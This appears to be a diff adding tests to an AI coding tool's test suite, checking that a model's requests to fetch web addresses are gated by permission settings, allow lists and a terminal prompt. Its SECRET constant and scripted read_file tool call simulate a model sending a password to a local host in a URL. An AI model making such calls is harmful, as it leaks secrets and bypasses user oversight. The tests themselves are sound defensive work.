@@ -1,8 +1,9 @@
-"""Where requests go and how long they go on: proxies, limits that count, answers without an end: cases of trouble.py."""
+"""Where requests go and how long they go on: proxies, limits that count, answers without an end, what a model has
+fetched: cases of trouble.py."""
 import contextlib
 import json
 
-from troubling import KEY, MODEL, Server, case, expect, response, rows, said, sse
+from troubling import (KEY, MODEL, Server, Terminal, called, case, expect, response, rows, said, sse, streamed)
 
 COMPATIBLE = "openai-compatible:some"
 
@@ -171,3 +172,51 @@ def drips(t, piece):
         done = t.fails(5, "answer_seconds", "Tell me a story.")
         expect("Once upon" in done.out, done.out)
     expect("Once upon" in json.dumps(t.kept()[1]), t.kept())
+
+
+# Fetching
+
+SECRET = "http://127.0.0.1:9/collect?said=the-password-is-swordfish"
+FETCHES = response(streamed(called("read_file", {"file_path": SECRET}), stop="tool_use"))
+DENIED = "nothing was fetched from 127.0.0.1: permission was not given"
+REACHED = "leads to an address that may not be reached from here"  # as far as a test can get
+
+
+@rows("a host that a model wants fetched from", [
+    ("is not asked about where nothing is fetched", "fetch: no", (), 0, "web addresses are not fetched"),
+    ("is denied where nobody can be asked", "fetch: yes", (), 7, DENIED),
+    ("is another one than what is listed", "fetch: {hosts: [example.org]}", (), 7, DENIED),
+    ("is another one than what is allowed", "fetch: yes", ("--allow", "fetch:example.org"), 7, DENIED),
+    ("is not asked about where it is listed", "fetch: {hosts: [127.0.0.1]}", (), 0, REACHED),
+    ("is not asked about where it is below what is listed", 'fetch: {hosts: ["*.0.0.1"]}', (), 0, REACHED),
+    ("is not asked about where it is allowed", "fetch: yes", ("--allow", "fetch:127.0.0.1"), 0, REACHED),
+])
+def fetch_asked(t, setting, options, status, words):
+    t.configure(setting + "\n")
+    with Server(FETCHES, response(said("Done."))) as server:
+        t.move(server.url)
+        done = t.ask(*options, "Look.")
+        expect(done.status == status and done.out == "Done.\n", f"{done.status} {done.out}{done.err}")
+        expect(words in server.asked[1].decode(), server.asked[1])
+    if status:
+        expect("nothing was fetched from 127.0.0.1" in done.err and "--allow fetch:127.0.0.1" in done.err, done.err)
+
+
+@rows("on a terminal it is asked with the whole address, and", [
+    ("no is no", b"n\n", DENIED), ("yes is yes", b"y\n", REACHED), ("always is always", b"a\n", REACHED),
+])
+def fetch_terminal(t, keys, words):
+    t.configure("fetch: yes\n")
+    with Server(FETCHES, FETCHES, response(said("Done."))) as server:
+        t.move(server.url)
+        terminal = Terminal(t, "Look.")
+        always, asked = keys.startswith(b"a"), 0
+        while terminal.process.poll() is None:
+            shown = terminal.read(0.02).count(b"a: always from 127.0.0.1) ")
+            if shown > asked:
+                asked = shown
+                terminal.press(keys)
+        status, shown = terminal.end()
+        expect(status == 0 and asked == (1 if always else 2), f"{status}, asked {asked} times: {shown}")
+        expect(f"? fetch {SECRET}\n  which tells all of this address to 127.0.0.1\n" in shown, shown)
+        expect(words in server.asked[1].decode(), server.asked[1])
